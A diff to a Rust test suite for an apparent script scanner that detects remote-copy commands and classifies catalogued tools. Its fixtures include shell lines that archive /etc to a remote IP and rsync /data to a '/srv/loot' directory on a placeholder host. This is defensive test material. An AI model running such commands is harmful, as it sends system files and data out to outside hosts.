@@ -329,6 +329,11 @@ fn validation_commands_in_scripts_are_found() {
             Code::RemoteCopyCommand,
         ),
         (
+            "tar-remote.sh",
+            "#!/bin/sh\ntar -czf backup@198.51.100.8:/srv/etc.tgz /etc\n",
+            Code::RemoteCopyCommand,
+        ),
+        (
             "rsync-push.sh",
             "#!/bin/sh\nrsync -avz /data user@backup.example.com:/srv/loot\n",
             Code::RemoteCopyCommand,
@@ -621,7 +626,7 @@ fn every_catalogue_entry_is_detected() {
                 Some(Code::Interpreter)
             }
             stowaway::catalog::ToolClass::Package => Some(Code::PackageDownloader),
-            stowaway::catalog::ToolClass::Shell => None,
+            stowaway::catalog::ToolClass::Base => None,
         };
         let found = at(&s, &format!("/{by_name}"));
         match want {
@@ -631,7 +636,11 @@ fn every_catalogue_entry_is_detected() {
                 t.id,
                 codes(&s)
             ),
-            None => assert!(found.is_empty(), "{}: shells are not flagged by name", t.id),
+            None => assert!(
+                found.is_empty(),
+                "{}: base-system programs are not flagged by name",
+                t.id
+            ),
         }
         if let (Some(p), Some(code)) = (by_content, want) {
             let f = at(&s, &format!("/{p}"));
